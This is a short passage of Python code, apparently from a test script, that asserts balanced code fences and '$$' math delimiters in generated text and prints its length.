        assert len(fences) % 2 == 0 and text.count("\n$$\n") % 2 == 0, size
        print(f"answer({size}) -> {len(text)} characters")
